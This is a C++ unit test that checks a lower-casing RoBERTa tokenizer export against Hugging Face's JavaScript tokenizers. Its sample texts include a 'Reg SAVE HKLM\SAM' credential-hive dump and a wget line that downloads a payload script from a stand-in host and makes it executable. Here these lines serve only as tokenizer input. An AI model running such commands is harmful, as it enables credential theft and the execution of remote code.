// The tokenizer files of a lower-casing RoBERTa export, read by Hugging Face's own JavaScript tokenizers
// (@huggingface/tokenizers, an independent implementation; tools/setup.sh installs it into build/js when
// npm is there): on raw mixed-case text they must give attune's ids, the lower-casing applied by the
// tokenizer.json normalizer itself. Skips, saying so, where node or the package is absent.
#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>

#include <nlohmann/json.hpp>

#include "data/tokenizers/tokenizer.h"
#include "e2e/e2e_util.h"
#include "inference/export_dir.h"
#include "test_paths.h"

namespace {

namespace fs = std::filesystem;
using attune::testing::read_json;
using attune::testing::slurp;
using attune::testing::write;

TEST(HfTokenizerFiles, ALowerCasingRobertaExportEncodesLikeAttuneInHuggingFacesTokenizersJs) {
  const fs::path source = attune::testing::source_dir() / "models/embedded/roberta-compact";
  const fs::path dir = attune::testing::temp_dir("hf-tokenizer-files") / "export";
  fs::create_directories(dir);
  attune::inference::copy_tokenizer_files(source, dir);
  attune::inference::Preprocessing pre;
  pre.lowercase = true;
  pre.max_length = 64;
  attune::inference::write_tokenizer_config(dir, pre);
  attune::inference::write_tokenizer_json(dir, pre);
  const auto tj = read_json(dir / "tokenizer.json");
  EXPECT_EQ(tj["normalizer"]["type"], "Lowercase");
  EXPECT_EQ(tj["model"]["type"], "BPE");
  EXPECT_EQ(tj["post_processor"]["type"], "RobertaProcessing");
  EXPECT_EQ(read_json(dir / "tokenizer_config.json")["model_max_length"], 64);
  // A case-keeping run writes no tokenizer.json (transformers converts vocab.json + merges.txt itself).
  const fs::path kept = dir.parent_path() / "kept";
  fs::create_directories(kept);
  attune::inference::copy_tokenizer_files(source, kept);
  attune::inference::write_tokenizer_json(kept, {});
  EXPECT_FALSE(fs::exists(kept / "tokenizer.json"));

  const std::vector<std::string> texts = {"Reg SAVE HKLM\\SAM C:\\Windows\\Temp\\sam.HIV /Y",
                                          "Get-Process | Where-Object {$_.CPU -gt 100} | Stop-Process -Force",
                                          "SSH Admin@10.0.0.5 -p 2222 'SUDO systemctl STATUS sshd'",
                                          "  two  spaces, ÄÖÜ Straße and \u0130stanbul <mask> end  ",
                                          "wget HTTP://Example.COM/Payload.SH -O /tmp/p && chmod +x /tmp/p"};
  const auto attune_tokenizer = attune::data::load_tokenizer(dir, {/*lowercase=*/true});

  const fs::path package = attune::testing::bin_dir().parent_path() / "js";
  if (std::system("command -v node >/dev/null 2>&1") != 0)
    GTEST_SKIP() << "node is not installed: the Hugging Face tokenizers.js cross-check is skipped";
  if (!fs::exists(package / "node_modules/@huggingface/tokenizers/package.json"))
    GTEST_SKIP() << package << " has no @huggingface/tokenizers (tools/setup.sh installs it where npm is): "
                 << "the cross-check is skipped";
  const fs::path texts_file = write(dir.parent_path() / "texts.json", nlohmann::json(texts).dump());
  const fs::path out = dir.parent_path() / "ids.json";
  const std::string command =
      "node " +
      attune::testing::quote((attune::testing::source_dir() / "tests/e2e/hf_tokenizers_check.mjs").string()) +
      " " + attune::testing::quote(package.string()) + " " + attune::testing::quote(dir.string()) + " " +
      attune::testing::quote(texts_file.string()) + " >" + attune::testing::quote(out.string()) + " 2>&1";
  ASSERT_EQ(std::system(command.c_str()), 0) << slurp(out);
  const auto js = nlohmann::json::parse(slurp(out));
  ASSERT_EQ(js.size(), texts.size());
  for (size_t i = 0; i < texts.size(); ++i)
    EXPECT_EQ(js[i].get<std::vector<int64_t>>(), attune_tokenizer->encode(texts[i])) << texts[i];
}

}  // namespace
